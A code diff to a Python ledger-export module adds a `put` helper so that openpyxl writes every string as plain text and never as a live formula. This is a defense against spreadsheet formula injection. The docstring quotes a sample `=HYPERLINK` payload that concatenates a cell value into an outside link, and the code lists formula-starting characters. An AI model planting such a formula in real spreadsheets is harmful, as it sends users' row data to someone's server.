@@ -1,13 +1,20 @@
 """Writing ledgers as .xlsx the way people print them: a title row across the table, a header row,
 then the rows; ID and phone columns stored as text so that Excel does not turn them into 3.7E+17.
 And the rejected-rows workbook: the rows as they came, the header as it was, and a reason column,
-ready to be fixed and imported again."""
+ready to be fixed and imported again.
+
+Every cell of every export is written through `put` (or `write_only_cell` for streamed sheets): a
+string is always a text cell, never a formula, whatever it starts with. Addresses, origins, notes and
+imported cells are typed by anyone, and `=HYPERLINK("http://…"&A1,"…")` in a ledger must come back
+as those characters, not as a live link that sends the row to someone's server when clicked."""
 
 import datetime as dt
 import io
 from collections.abc import Iterable, Sequence
 
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Border, Font, Side
 from openpyxl.utils import get_column_letter
 
@@ -17,6 +24,29 @@ XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml
 _THIN = Side(style="thin", color="999999")
 _BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
 _WRAP = Alignment(vertical="center", wrap_text=True)
+# What spreadsheet programs read as the start of a formula when a cell is typed or a CSV is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def put(cell, value):
+    """Set a cell's value, a string always as text: openpyxl would store "=…" as a formula. Control
+    characters that the file format cannot hold are dropped rather than failing the whole export."""
+    if isinstance(value, str):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if value.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True  # Excel keeps it text when the cell is edited too
+    return cell
+
+
+def write_only_cell(sheet, value, **style):
+    """A cell of a write-only (streamed) sheet, through `put`, with the given style attributes."""
+    cell = put(WriteOnlyCell(sheet), value)
+    for name, setting in style.items():
+        setattr(cell, name, setting)
+    return cell
 
 
 class LedgerSheet:
@@ -30,7 +60,7 @@ class LedgerSheet:
 
     def title(self, text: str, *, width: int, size: int = 14) -> None:
         self.row += 1
-        cell = self.ws.cell(row=self.row, column=1, value=text)
+        cell = put(self.ws.cell(row=self.row, column=1), text)
         cell.font = Font(bold=True, size=size)
         cell.alignment = Alignment(horizontal="center", vertical="center")
         if width > 1:
@@ -39,14 +69,14 @@ class LedgerSheet:
 
     def line(self, text: str, *, width: int) -> None:
         self.row += 1
-        self.ws.cell(row=self.row, column=1, value=text).alignment = Alignment(horizontal="left")
+        put(self.ws.cell(row=self.row, column=1), text).alignment = Alignment(horizontal="left")
         if width > 1:
             self.ws.merge_cells(start_row=self.row, start_column=1, end_row=self.row, end_column=width)
 
     def header(self, headers: Sequence[str], *, widths: Sequence[int] = ()) -> None:
         self.row += 1
         for index, name in enumerate(headers, start=1):
-            cell = self.ws.cell(row=self.row, column=index, value=name)
+            cell = put(self.ws.cell(row=self.row, column=index), name)
             cell.font = Font(bold=True)
             cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
             cell.border = _BORDER
@@ -64,7 +94,7 @@ class LedgerSheet:
             for index, value in enumerate(values):
                 if index in as_text and value not in (None, ""):
                     value = str(value)
-                cell = self.ws.cell(row=self.row, column=index + 1, value=value)
+                cell = put(self.ws.cell(row=self.row, column=index + 1), value)
                 cell.border = _BORDER
                 cell.alignment = _WRAP
                 if index in as_text:
@@ -77,8 +107,8 @@ class LedgerSheet:
         """Label–value lines of a sheet's header block (姓名：张伟)."""
         for label, value in pairs:
             self.row += 1
-            self.ws.cell(row=self.row, column=1, value=label).font = Font(bold=True)
-            self.ws.cell(row=self.row, column=2, value=value).alignment = Alignment(wrap_text=True)
+            put(self.ws.cell(row=self.row, column=1), label).font = Font(bold=True)
+            put(self.ws.cell(row=self.row, column=2), value).alignment = Alignment(wrap_text=True)
             if width > 2:
                 self.ws.merge_cells(start_row=self.row, start_column=2, end_row=self.row, end_column=width)
 
